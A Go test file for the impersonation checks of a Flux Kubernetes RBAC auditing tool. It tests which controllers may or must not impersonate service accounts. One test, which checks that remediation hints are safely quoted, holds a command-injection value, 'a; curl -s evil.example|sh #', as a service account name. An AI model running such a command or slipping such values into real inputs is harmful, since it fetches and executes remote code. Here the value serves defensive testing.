// SPDX-License-Identifier: Apache-2.0

package impersonation_test

import (
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/flux-probe/flux-probe/matrix"
	"github.com/flux-probe/flux-probe/matrix/flux/checks"
	"github.com/flux-probe/flux-probe/matrix/flux/checks/impersonation"
	"github.com/flux-probe/flux-probe/matrix/flux/detect"
	"github.com/flux-probe/flux-probe/matrix/flux/internal/fluxtest"
)

// The permissions that the real controllers need for what the Kustomization of fluxtest.Tenant applies.
const (
	legacyRight   = "impersonate||serviceaccounts|dev-team"
	accountHalf   = "impersonate:serviceaccount|authentication.k8s.io|serviceaccounts|dev-team"
	pathsHalf     = "impersonate-on:serviceaccount:get|/api,/apis"
	objectsHalf   = "impersonate-on:serviceaccount:get,impersonate-on:serviceaccount:patch,impersonate-on:serviceaccount:delete|,apps|deployments,services"
	withoutDelete = "impersonate-on:serviceaccount:get,impersonate-on:serviceaccount:patch|,apps|deployments,services"
)

func TestMayImpersonate(t *testing.T) {
	tests := []struct {
		name   string
		server string
		rules  []string
		want   bool
		via    string
	}{
		{name: "nothing", server: "v1.37.2"},
		{name: "legacy", server: "v1.37.2", rules: []string{legacyRight}, want: true, via: "impersonate serviceaccounts dev-team"},
		{name: "legacy on an old server", server: "v1.31.0", rules: []string{legacyRight}, want: true},
		{name: "legacy for another account", server: "v1.37.2", rules: []string{"impersonate||serviceaccounts|other"}},
		{name: "constrained", server: "v1.36.0", rules: []string{accountHalf, pathsHalf, objectsHalf}, want: true},
		{name: "constrained on an old server", server: "v1.35.9", rules: []string{accountHalf, pathsHalf, objectsHalf}},
		{name: "the account alone", server: "v1.37.2", rules: []string{accountHalf}},
		{name: "the objects alone", server: "v1.37.2", rules: []string{pathsHalf, objectsHalf}},
		{name: "no discovery", server: "v1.37.2", rules: []string{accountHalf, objectsHalf}},
		{name: "no pruning", server: "v1.37.2", rules: []string{accountHalf, pathsHalf, withoutDelete}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			l := fluxtest.Tenant(t)
			l.Kubernetes = test.server
			l.Bindings[0].Subjects = l.Bindings[0].Subjects[1:] // all but kustomize-controller
			l.Role("", "acts", test.rules...)
			l.Bind("", "acts", "acts", "flux-system/kustomize-controller")
			for _, f := range l.Findings(t, checks.Options{}, impersonation.Checks) {
				if f.Code != "FP301" || f.Origin.Get().Namespace != "apps" {
					continue
				}
				if (f.Verdict == "pass") != test.want {
					t.Errorf("verdict %s: %s", f.Verdict, f.Because)
				}
				if test.via != "" && f.Via != test.via {
					t.Errorf("via %q, want %q", f.Via, test.via)
				}
				return
			}
			t.Error("FP301 was not asked")
		})
	}
}

// An install that watches its own namespace only leaves the others to the other install.
func TestTwoInstalls(t *testing.T) {
	l := fluxtest.New("--default-service-account=first", "--watch-all-namespaces=false")
	second := detect.Install{Namespace: "flux-two", Version: "v2.9.5", Controllers: []detect.Controller{{
		Component: "kustomize-controller", Namespace: "flux-two", Name: "kustomize-controller", ServiceAccount: "kustomize-controller",
		Args: []string{"--default-service-account=second"},
	}}}
	l.Installs = append(l.Installs, second)
	l.Object(t, "Kustomization", "apps", "app", `{}`)
	l.Object(t, "Kustomization", "flux-system", "app", `{}`)
	var got []string
	found, _ := impersonation.Checks(l.Model(), checks.Options{})
	for _, c := range found {
		if access, _ := c.Access(); c.Meta().Code == "FP301" {
			got = append(got, c.Meta().Subject.Get().String()+" "+access.Namespace+"/"+access.Name)
		}
	}
	want := []string{"flux-two/kustomize-controller apps/second", "flux-system/kustomize-controller flux-system/first"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error("pairs (-want +got):\n" + diff)
	}
}

func TestMustNotImpersonate(t *testing.T) {
	tests := []struct {
		name, subject, rule string
		want                []string
	}{
		{
			name: "every account", subject: "flux-system/source-controller", rule: "impersonate||serviceaccounts",
			want: []string{
				"FP303 excess error flux-system/source-controller impersonate serviceaccounts in ",
				"FP303 excess error flux-system/source-controller impersonate serviceaccounts in flux-system",
				"FP303 excess error flux-system/source-controller impersonate serviceaccounts in flux-system",
			},
		},
		{
			name: "one reconciler by name", subject: "apps/dev-team", rule: "impersonate||serviceaccounts|helm-controller",
			want: []string{"FP303 excess error apps/dev-team impersonate serviceaccounts in flux-system"},
		},
		{
			name: "one constrained half alone has no effect", subject: "flux-system/source-controller", rule: "impersonate:serviceaccount|authentication.k8s.io|serviceaccounts",
		},
		{
			name: "both constrained halves", subject: "flux-system/source-controller", rule: "impersonate:serviceaccount,impersonate-on:serviceaccount:create|authentication.k8s.io,|serviceaccounts,pods",
			want: []string{"FP303 excess error flux-system/source-controller impersonate serviceaccounts in "},
		},
		{
			name: "both constrained halves, of a tenant that is bound by its user name", subject: "User system:serviceaccount:apps:dev-team",
			rule: "impersonate:serviceaccount,impersonate-on:serviceaccount:create|authentication.k8s.io,|serviceaccounts,pods",
			want: []string{"FP303 excess error apps/dev-team impersonate serviceaccounts in "},
		},
	}
	for _, test := range tests {
		l := fluxtest.Tenant(t)
		l.Role("", "acts", test.rule)
		l.Bind("", "acts", "acts", test.subject)
		got := fluxtest.Failures(l.Findings(t, checks.Options{}, impersonation.Checks), "FP303")
		slices.Sort(got)
		if diff := cmp.Diff(test.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", test.name, diff)
		}
	}
}

// A RoleBinding in another namespace can let a controller impersonate the accounts there.
func TestMustNotImpersonateElsewhere(t *testing.T) {
	const controller = "FP303 excess error flux-system/source-controller impersonate serviceaccounts in "
	for rule, want := range map[string][]string{
		"impersonate||serviceaccounts":                                     {controller + "apps"},
		"impersonate||serviceaccounts|one,two":                             {controller + "apps", controller + "apps"},
		"get||serviceaccounts":                                             nil,
		"impersonate:serviceaccount|authentication.k8s.io|serviceaccounts": nil,
		"impersonate:serviceaccount,impersonate-on:serviceaccount:get|authentication.k8s.io,|serviceaccounts,secrets|dev-team": nil,
		"impersonate:serviceaccount,impersonate-on:serviceaccount:get|authentication.k8s.io,|serviceaccounts,secrets":          {controller + "apps"},
		"impersonate:serviceaccount,impersonate-on:serviceaccount:create|authentication.k8s.io,|serviceaccounts,pods":          {controller + "apps"},
	} {
		l := fluxtest.Tenant(t)
		l.Role("", "acts", rule)
		l.Bind("apps", "acts", "acts", "flux-system/source-controller")
		got := fluxtest.Failures(l.Findings(t, checks.Options{}, impersonation.Checks), "FP303")
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", rule, diff)
		}
	}
}

// Names come from the cluster: in a command they are quoted.
func TestHintsAreQuoted(t *testing.T) {
	l := fluxtest.Tenant(t)
	l.Object(t, "Kustomization", "apps", "evil", `{spec: {serviceAccountName: "a; curl -s evil.example|sh #"}}`)
	for _, f := range l.Findings(t, checks.Options{}, impersonation.Checks) {
		if f.Code == "FP302" && f.Verdict == matrix.Missing {
			if want := "kubectl -n apps create serviceaccount 'a; curl -s evil.example|sh #', or name another in Kustomization apps/evil"; f.Hint != want {
				t.Errorf("hint %q, want %q", f.Hint, want)
			}
			return
		}
	}
	t.Error("the missing account is not reported")
}
